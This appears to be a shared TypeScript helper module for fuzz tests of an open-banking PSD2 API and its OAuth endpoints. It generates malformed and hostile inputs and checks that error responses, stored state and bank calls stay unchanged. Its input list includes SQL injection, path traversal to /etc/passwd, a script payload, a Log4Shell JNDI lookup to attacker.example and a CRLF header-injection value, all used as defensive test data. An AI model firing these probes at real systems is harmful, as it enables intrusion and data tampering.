/**
 * What the fuzzers share (fuzz.test.ts for /psd2 and /connect, fuzz-aisp.test.ts for /aisp/v1
 * and /oauth): the seed and case count from the environment, a seeded PRNG and the hostile
 * values it draws, the checks of the OAuth servers' error answers, and one case run with the
 * stored state and the bank's request count read around it.
 */
import { randomUUID } from 'node:crypto';
import { isIP } from 'node:net';
import type { TestPlatform } from '../support/test-platform.js';
import { bankRequestCount, storedState, TPP_REDIRECT } from './helpers.js';

export const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** Cases per family: FUZZ_CASES, or the file's own default, bounded for CI. */
export function fuzzCases(defaultCases: number): number {
  return Number(process.env.FUZZ_CASES ?? defaultCases);
}

/** FUZZ_SEED, `random` for a fresh one (named in the test's title, to replay a failure). */
export function fuzzSeed(): number {
  return process.env.FUZZ_SEED === 'random'
    ? Math.floor(Math.random() * 2 ** 31)
    : Number(process.env.FUZZ_SEED ?? 20_240_607);
}

/** Per case, generously: a slow machine, PostgreSQL, and a state snapshot around each request. */
export function fuzzTimeoutMs(cases: number): number {
  return 60_000 + cases * 100;
}

// ---------------------------------------------------------------------------------------------
// A seeded PRNG (mulberry32) and the values it draws.

export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let x = this.state;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4_294_967_296;
  }

  int(max: number): number {
    return Math.floor(this.next() * max);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  /** A string an attacker or a broken client might send where text is expected. */
  text(): string {
    const kind = this.int(9);
    switch (kind) {
      case 0:
        return this.pick(['', ' ', '\t', 'null', 'undefined', 'true', '0', '-1', '[]', '{}']);
      case 1:
        return this.pick([
          "' OR 1=1 --",
          '"; DROP TABLE consents; --',
          '../../../../etc/passwd',
          '<script>alert(1)</script>',
          // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a Log4Shell probe
          '${jndi:ldap://attacker.example/x}',
          '{{7*7}}',
          '%00',
          '%E0%A4%A',
          '\\u0000',
          '__proto__',
        ]);
      case 2:
        // Unicode: emoji, right-to-left override, zero-width, combining marks, look-alikes.
        return this.pick([
          '😀🏦',
          '\u202Eevil',
          'a\u200Bb',
          'e\u0301\u0301\u0301',
          'ſ',
          'Ωμέγα',
          '漢字',
          'ǅ',
        ]);
      case 3:
        return 'A'.repeat(this.pick([1, 35, 36, 37, 255, 256, 1024, 4096]));
      case 4:
        return this.pick([
          '0',
          '-0',
          '1',
          '-1',
          '2147483648',
          '9007199254740993',
          '1e308',
          '1e400',
          'NaN',
          'Infinity',
          '0x10',
          '1.5',
        ]);
      case 5:
        return this.pick([
          '2021-02-30',
          '0000-00-00',
          '9999-99-99',
          '2021-1-1',
          '+275760-09-13',
          '1900-01-01',
          '2999-12-31',
          '2021-04-23T00:00:00Z',
        ]);
      case 6:
        return this.pick([
          randomUUID(),
          randomUUID().toUpperCase(),
          `{${randomUUID()}}`,
          randomUUID().replaceAll('-', ''),
          '00000000-0000-0000-0000-000000000000',
          `${randomUUID()}\r\nX-Injected: 1`,
        ]);
      case 7:
        return Array.from({ length: 1 + this.int(40) }, () =>
          String.fromCharCode(32 + this.int(95)),
        ).join('');
      default:
        return `${this.pick(['x', 'ü', '€', '\u0007'])}${this.int(1000)}`;
    }
  }

  /** Text with something in it besides white space: garbage where a value is required. */
  nonBlank(): string {
    let value = this.text();
    while (value.trim() === '') value = this.text();
    return value;
  }

  /** A JSON value of some type, for a field that expects another. */
  jsonValue(): unknown {
    return this.pick<() => unknown>([
      () => null,
      () => true,
      () => this.pick([0, -1, 1.5, 2 ** 53 + 2, 1e308, -1e308]),
      () => this.text(),
      () => [],
      () => [this.text()],
      () => ({}),
      () => ({ [this.text()]: this.text() }),
    ])();
  }
}

/**
 * The payment initiation codes and the statuses they go with (PAYMENTS.md 2.2 and 3.8), for the
 * fuzzers that meet `/psd2/paymentinitiation` (fuzz.test.ts, fuzz-payments.test.ts).
 */
export const PAYMENT_CODE_STATUSES: Record<string, number[]> = {
  EXECUTION_DATE_INVALID: [400],
  PAYMENT_FAILED: [400],
  PRODUCT_INVALID: [403],
  PRODUCT_UNKNOWN: [404],
  CANCELLATION_INVALID: [405],
};

// ---------------------------------------------------------------------------------------------
// PSU-IP-Address: what the fuzzers send where an IP address is expected.

/** The fuzzers' own judge of an IP address (IPv4 or IPv6, no zone index): not the platform's. */
export function isPsuIpAddress(value: string): boolean {
  return isIP(value) !== 0 && !value.includes('%');
}

/** Near misses of an IP address, besides the fuzzer's random text. */
const NOT_IP_ADDRESSES = [
  '<script>alert(1)</script>',
  '256.0.0.1',
  '192.0.2',
  '192.0.2.10, 198.51.100.7',
  '::ffff:999.0.0.1',
  'fe80::1%eth0',
  '2001:db8::g',
  'localhost',
  '0x7f.0.0.1',
];

/** A value of PSU-IP-Address that is no IP address. */
export function notAnIpAddress(rng: Rng): string {
  let value = rng.pick([...NOT_IP_ADDRESSES, rng.nonBlank()]);
  while (value.trim() === '' || isPsuIpAddress(value.trim())) value = rng.nonBlank();
  return value;
}

// ---------------------------------------------------------------------------------------------
// What the OAuth servers' error answers must look like (/connect and /oauth alike).

export const OAUTH_ERRORS = new Set([
  'invalid_request',
  'invalid_client',
  'invalid_grant',
  'unauthorized_client',
  'unsupported_grant_type',
  'invalid_scope',
  // RFC 8707: a `resource` parameter that is no absolute URI.
  'invalid_target',
]);

export interface Answer {
  statusCode: number;
  headers: Record<string, unknown>;
  body: string;
}

export function tokenEndpointProblems(answer: Answer): string[] {
  const problems: string[] = [];
  if (![400, 401, 405].includes(answer.statusCode)) problems.push(`status ${answer.statusCode}`);
  if (answer.headers['cache-control'] !== 'no-store') problems.push('not no-store');
  if (!String(answer.headers['content-type']).startsWith('application/json')) {
    return [...problems, `content-type ${answer.headers['content-type']}`];
  }
  const body = JSON.parse(answer.body) as { error?: string; access_token?: string };
  if (!OAUTH_ERRORS.has(body.error ?? '')) problems.push(`error ${body.error}`);
  if (answer.statusCode === 401 && body.error !== 'invalid_client') {
    problems.push(`401 with ${body.error}`);
  }
  if (body.access_token) problems.push('a token was issued');
  return problems;
}

/** An error page, or an error redirect to `redirectUri` and nowhere else. */
export function authorizeProblems(answer: Answer, redirectUri: string = TPP_REDIRECT): string[] {
  if (answer.statusCode === 400) {
    const page = String(answer.headers['content-type']).startsWith('text/html');
    return page && answer.body.includes('<p>Error: <code>') ? [] : ['400 without the error page'];
  }
  if (answer.statusCode === 303 || answer.statusCode === 302) {
    // In the query, or in the fragment for a response type that would put tokens there.
    const location = String(answer.headers.location ?? '');
    const [target, params] = location.split(/[?#]/, 2) as [string, string | undefined];
    if (target !== redirectUri) return [`redirected to ${location}`];
    const error = new URLSearchParams(params ?? '').get('error');
    return error ? [] : ['redirected to the TPP without an error'];
  }
  return [`status ${answer.statusCode}`];
}

// ---------------------------------------------------------------------------------------------

/**
 * Runs one case: the problems found, if any, with the answer's own problems (`problemsOf`), a
 * 5xx, a bank call, and every stored table that changed.
 */
export async function checkCase(
  t: TestPlatform,
  send: () => Promise<Answer>,
  problemsOf: (answer: Answer) => string[],
): Promise<string[] | 'unsendable'> {
  const before = await storedState(t);
  const bankBefore = bankRequestCount(t);
  let answer: Answer;
  try {
    answer = await send();
  } catch (error) {
    // light-my-request refuses what no HTTP client can send (a header with a line break).
    if (
      String(error).includes('Invalid character in header') ||
      String(error).includes('ERR_INVALID_CHAR')
    ) {
      return 'unsendable';
    }
    throw error;
  }
  const problems = problemsOf(answer);
  if (answer.statusCode >= 500)
    problems.push(`a ${answer.statusCode}: ${answer.body.slice(0, 200)}`);
  if (bankRequestCount(t) !== bankBefore) problems.push('the bank was called');
  const after = await storedState(t);
  for (const table of Object.keys(before)) {
    if (JSON.stringify(before[table]) !== JSON.stringify(after[table])) {
      problems.push(`stored state changed: ${table}`);
    }
  }
  if (problems.length > 0)
    problems.push(`answer ${answer.statusCode} ${answer.body.slice(0, 300)}`);
  return problems;
}

/**
 * One case at an OAuth endpoint that takes a form (token, revocation): RFC 6749's errors,
 * nothing stored or revoked. A GET carries no body.
 */
export function checkFormCase(
  t: TestPlatform,
  url: string,
  request: { method: string; headers: Record<string, string>; payload: string },
): Promise<string[] | 'unsendable'> {
  return checkCase(
    t,
    () =>
      t.auth.inject({
        method: request.method as 'POST',
        url,
        headers: request.headers,
        ...(request.method === 'GET' ? {} : { payload: request.payload }),
      }),
    tokenEndpointProblems,
  );
}

/**
 * `checkFormCase`, and what the test reports of it: undefined when the case passed (or could
 * not be sent), else its failure. `shownHeaders` are the headers as the case wrote them, where
 * they were encoded for the wire.
 */
export async function formCaseFailure(
  t: TestPlatform,
  url: string,
  request: { method: string; headers: Record<string, string>; payload: string },
  report: { replay: { i: number; seed: number }; applied: string[]; shownHeaders?: unknown },
): Promise<string | undefined> {
  const result = await checkFormCase(t, url, request);
  if (result === 'unsendable' || result.length === 0) return undefined;
  const shown = JSON.stringify(report.shownHeaders ?? request.headers);
  const sent = `${request.method} ${shown} ${request.payload.slice(0, 300)}`;
  return caseFailure(report.replay, report.applied, sent, result);
}

/** A failed case as the test reports it: what to replay it with, what was sent, what was wrong. */
export function caseFailure(
  replay: { i: number; seed: number; what?: string },
  applied: string[],
  sent: string,
  problems: string[],
): string {
  const what = replay.what ? ` ${replay.what}` : '';
  return `case ${replay.i} (seed ${replay.seed})${what}: ${applied.join('; ')}\n  ${sent}\n  ${problems.join('\n  ')}`;
}
